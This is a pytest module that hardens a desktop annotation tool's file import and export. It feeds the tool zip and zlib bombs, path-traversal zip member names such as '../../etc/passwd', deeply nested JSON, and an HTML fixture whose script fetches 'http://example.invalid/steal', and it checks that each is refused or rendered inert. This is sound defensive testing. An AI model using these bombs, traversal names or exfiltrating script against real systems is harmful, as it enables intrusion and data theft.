"""Hand-made hostile files: size limits, bombs, traversal, active HTML, export names."""

from __future__ import annotations

import io
import json
import socket
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from desktop.domain import Article, Entity
from desktop.formats import FormatError
from desktop.formats import errors as format_errors
from desktop.services import exporting, importing
from desktop.services.formats import FORMATS, reader_for
from desktop.store import Database
from tests.reliability import fuzzkit

IMPORTABLE = sorted(name for name, f in FORMATS.items() if f.read is not None)
SUFFIX = {"jsonl": ".jsonl", "prodigy": ".jsonl", "doccano": ".jsonl", "labelstudio": ".json"}


def read_all(path: Path, fmt: str | None = None) -> list[Article]:
    return list(reader_for(path, fmt)(path))


def export_file(tmp_path: Path, fmt: str, article: Article) -> Path:
    spec = FORMATS[fmt]
    path = tmp_path / f"export-{fmt}{spec.suffix}"
    with path.open(
        "wb" if spec.binary else "w", **({} if spec.binary else {"encoding": "utf-8"})
    ) as fh:
        spec.write(iter([article]), fh)
    return path


# --- size limits -------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", sorted(fuzzkit.SUFFIXES))
def test_a_file_over_the_size_limit_is_refused_before_it_is_read(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"big{suffix}"
    with path.open("wb") as fh:  # sparse: nothing is really written
        fh.truncate(format_errors.MAX_FILE_BYTES + 1)
    with pytest.raises(FormatError, match=r"larger than (200|20) MiB"):
        read_all(path)


def test_an_html_page_over_its_own_limit_is_refused(tmp_path: Path) -> None:
    from desktop.formats.html import MAX_HTML_BYTES

    path = tmp_path / "big.html"
    with path.open("wb") as fh:
        fh.truncate(MAX_HTML_BYTES + 1)
    with pytest.raises(FormatError, match="HTML page is larger than 20 MiB"):
        read_all(path)


@pytest.mark.parametrize("fmt", IMPORTABLE)
def test_an_article_over_the_length_limit_is_refused_in_every_format(
    tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import desktop.formats.brat as brat

    limit = 400
    monkeypatch.setattr(format_errors, "MAX_ARTICLE_CHARS", limit)
    monkeypatch.setattr(brat, "MAX_ARTICLE_CHARS", limit)
    ok = "Ann Lee spoke. " * (limit // 30)  # CoNLL re-spaces the text: leave room
    assert len(ok) <= limit
    path = export_file(
        tmp_path, fmt, Article("ok", ok, entities=[Entity(0, 7, "PERSON", "Ann Lee")])
    )
    assert len(read_all(path, fmt)) == 1
    long = ok + "x" * (limit + 10 - len(ok))
    path = export_file(
        tmp_path, fmt, Article("long", long, entities=[Entity(0, 7, "PERSON", "Ann Lee")])
    )
    with pytest.raises(FormatError, match=f"longer than {limit:,} characters"):
        read_all(path, fmt)


def test_text_and_html_articles_over_the_length_limit_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(format_errors, "MAX_ARTICLE_CHARS", 300)
    (tmp_path / "a.txt").write_text("word " * 100, encoding="utf-8")
    with pytest.raises(FormatError, match="longer than 300 characters"):
        read_all(tmp_path / "a.txt")
    page = "<html><body><article><p>" + "A sentence of news. " * 40 + "</p></article></body></html>"
    (tmp_path / "a.html").write_text(page, encoding="utf-8")
    with pytest.raises(FormatError, match="longer than 300 characters"):
        read_all(tmp_path / "a.html")


# --- bombs, traversal, nesting -----------------------------------------------------------


def test_a_brat_member_bomb_is_refused_before_it_is_inflated(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    path.write_bytes(fuzzkit.zip_bomb(4 * format_errors.MAX_ARTICLE_CHARS + 1))
    assert path.stat().st_size < 100_000
    started = time.monotonic()
    with pytest.raises(FormatError, match="too large"):
        read_all(path)
    assert time.monotonic() - started < 1  # refused on the declared size, not inflated


def test_a_brat_zip_that_unpacks_to_too_much_in_total_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import desktop.formats.brat as brat

    monkeypatch.setattr(brat, "MAX_UNCOMPRESSED", 1 << 20)
    path = tmp_path / "bomb.zip"
    path.write_bytes(fuzzkit.zip_bomb(400_000, members=3))
    with pytest.raises(FormatError, match="unpacks to more than"):
        read_all(path)


@pytest.mark.parametrize(
    "name", ["../evil.txt", "/etc/evil.txt", "a/../../evil.txt", "..\\evil.txt", "C:evil.txt"]
)
def test_a_brat_zip_with_a_traversal_name_is_refused_and_writes_nothing(
    tmp_path: Path, db: Database, name: str
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("ok.txt", "A fine article.")
        zf.writestr(zipfile.ZipInfo(name), "Evil text.")
    (folder / "a.zip").write_bytes(buf.getvalue())
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    report = importing.import_paths(db, [folder / "a.zip"])
    assert report.added == 0 and "unsafe member name" in report.errors[0]
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert not (tmp_path.parent / "evil.txt").exists()


def damaged_zips() -> dict[str, bytes]:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a.txt", "Hello there, this is an article text. " * 5)
    good = buf.getvalue()
    central = good.rfind(b"PK\x01\x02")
    bad_data = bytearray(good)
    for i in range(40, 60):  # inside the deflated data of a.txt
        bad_data[i] ^= 0xFF
    encrypted = bytearray(good)
    encrypted[6] |= 1  # the "encrypted" flag, in the local and the central header
    encrypted[central + 8] |= 1
    method = bytearray(good)
    method[8] = method[central + 10] = 99  # an unknown compression method
    return {"deflate": bytes(bad_data), "encrypted": bytes(encrypted), "method": bytes(method)}


@pytest.mark.parametrize("kind", ["deflate", "encrypted", "method"])
def test_a_brat_zip_with_a_damaged_member_is_a_format_error(tmp_path: Path, kind: str) -> None:
    """zlib.error, RuntimeError and NotImplementedError used to escape as tracebacks."""
    path = tmp_path / f"{kind}.zip"
    path.write_bytes(damaged_zips()[kind])
    with pytest.raises(FormatError, match="a.txt cannot be unpacked"):
        read_all(path)


def test_a_docbin_compression_bomb_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import desktop.services.formats as service_formats

    monkeypatch.setattr(service_formats, "MAX_FILE_BYTES", 1 << 20)
    path = tmp_path / "bomb.spacy"
    path.write_bytes(zlib.compress(b"\0" * (3 << 20), 9))
    with pytest.raises(FormatError, match="unpacks to more than 1 MiB"):
        read_all(path)


@pytest.mark.parametrize(
    ("name", "fmt", "content"),
    [
        ("deep.jsonl", "jsonl", b"[" * 100_000 + b"]" * 100_000),
        ("deep.jsonl", "prodigy", b'{"text":' * 50_000 + b'"x"' + b"}" * 50_000),
        ("deep.json", "labelstudio", b"[" * 100_000 + b"]" * 100_000),
        ("wrong.jsonl", "jsonl", b'{"text": ["not", "a", "string"]}\n'),
        ("wrong.jsonl", "doccano", b'{"text": "abc", "entities": [[0, 99, "PERSON"]]}\n'),
        ("wrong.json", "labelstudio", b'{"data": {"text": 5}}'),
        (
            "rev.jsonl",
            "jsonl",
            b'{"text": "abcdef", "entities": [{"start": 4, "end": 2, "label": "X"}]}\n',
        ),
        (
            "neg.jsonl",
            "jsonl",
            b'{"text": "abcdef", "entities": [{"start": -1, "end": 2, "label": "X"}]}\n',
        ),
        # Latin-1 text is read now (issue 18); a UTF-16 BOM before a lone surrogate is not
        ("bad.txt", None, b"\xff\xfea\x00\x00\xd8"),
    ],
)
def test_malformed_structured_files_give_a_format_error(
    tmp_path: Path, name: str, fmt: str | None, content: bytes
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(FormatError):
        read_all(path, fmt)


def test_utf16_with_a_bom_imports_as_text(tmp_path: Path) -> None:
    text = "Zoë said: “ça va” — 😀 fine.\nSecond line here."
    path = tmp_path / "a.txt"
    path.write_bytes(text.encode("utf-16"))
    assert read_all(path)[0].text == text


def test_a_huge_line_is_one_article_not_a_hang(tmp_path: Path) -> None:
    text = "word " * 300_000
    path = tmp_path / "huge.jsonl"
    path.write_text(json.dumps({"id": "h", "text": text}) + "\n", encoding="utf-8")
    started = time.monotonic()
    assert read_all(path)[0].text == text
    assert time.monotonic() - started < 5


# --- HTML is text only -------------------------------------------------------------------

ACTIVE_PAGE = """<!doctype html>
<html><head><title>Budget vote</title>
<script>document.write("INJECTED"); fetch("http://example.invalid/steal")</script>
<link rel="stylesheet" href="http://example.invalid/style.css">
<meta http-equiv="refresh" content="0;url=http://example.invalid/">
</head><body onload="alert('ONLOAD')">
<article>
<h1>Budget vote</h1>
<p>Ann Lee said the budget would pass on Monday, according to two officials.</p>
<img src="http://example.invalid/pixel.png" onerror="alert('ONERROR')">
<iframe src="http://example.invalid/frame"></iframe>
<p onclick="alert('ONCLICK')">Bo Chan, a senator, said the plan had failed and would be
redrafted.</p>
<script>alert("INLINE")</script><noscript>inert text for browsers without scripts</noscript>
</article></body></html>
"""


def test_html_import_keeps_plain_text_and_touches_no_network(
    tmp_path: Path, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    attempts: list[object] = []

    def no_network(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network use during an HTML import")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    path = tmp_path / "page.html"
    path.write_text(ACTIVE_PAGE, encoding="utf-8")
    report = importing.import_paths(db, [path])
    assert report.added == 1 and not report.errors and attempts == []
    with db.session() as s:
        from desktop.store import repository as repo

        article = repo.load_article(s, report.article_ids[0])
    assert "Ann Lee said the budget would pass" in article.text
    assert "Bo Chan" in article.text
    for active in ("INJECTED", "ONLOAD", "ONERROR", "ONCLICK", "INLINE", "example."):
        assert active not in article.text
    assert "<" not in article.text and "alert" not in article.text


@pytest.mark.gui
def test_the_article_view_shows_markup_as_plain_text(qtbot) -> None:  # type: ignore[no-untyped-def]
    """Text that looks like HTML is shown literally: no element, image or link is made."""
    from desktop.ui.article_view import ArticleView

    view = ArticleView()
    qtbot.addWidget(view)
    text = '<img src="http://example.invalid/x.png"> <b>bold?</b> <a href="http://x">x</a>'
    view.show_article(Article("x", text, entities=[Entity(0, 4, "PERSON", "<img")]))
    assert view.toPlainText() == text
    block = view.document().begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            assert not fmt.isImageFormat() and not fmt.isAnchor()
            it += 1
        block = block.next()


# --- export names ------------------------------------------------------------------------


def test_a_brat_export_of_hostile_ids_writes_only_safe_names_inside_the_zip(
    tmp_path: Path, db: Database
) -> None:
    from desktop.store import repository as repo

    hostile = ["../../etc/passwd", "/abs/path", "..\\win", "C:\\x", "a/b/c", "\x00nul", "..", ""]
    if db.on_server:  # PostgreSQL cannot store NUL at all (refused in one line: test_postgres)
        hostile.remove("\x00nul")
    with db.transaction() as s:
        coll = repo.collection(s)
        for n, ext in enumerate(hostile):
            repo.add_article(s, coll, Article(ext or "empty", f"Article number {n} text."))
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    before = sorted(tmp_path.rglob("*"))
    assert exporting.export(db, "brat", out_dir / "set.zip") == len(hostile)
    after = sorted(tmp_path.rglob("*"))
    assert [p for p in after if p not in before] == [out_dir / "set.zip"]
    with zipfile.ZipFile(out_dir / "set.zip") as zf:
        names = zf.namelist()
    assert len(names) == 3 * len(hostile) + 1
    for name in names:
        assert "/" not in name and "\\" not in name and ".." not in name and ":" not in name
        assert not name.startswith(".")
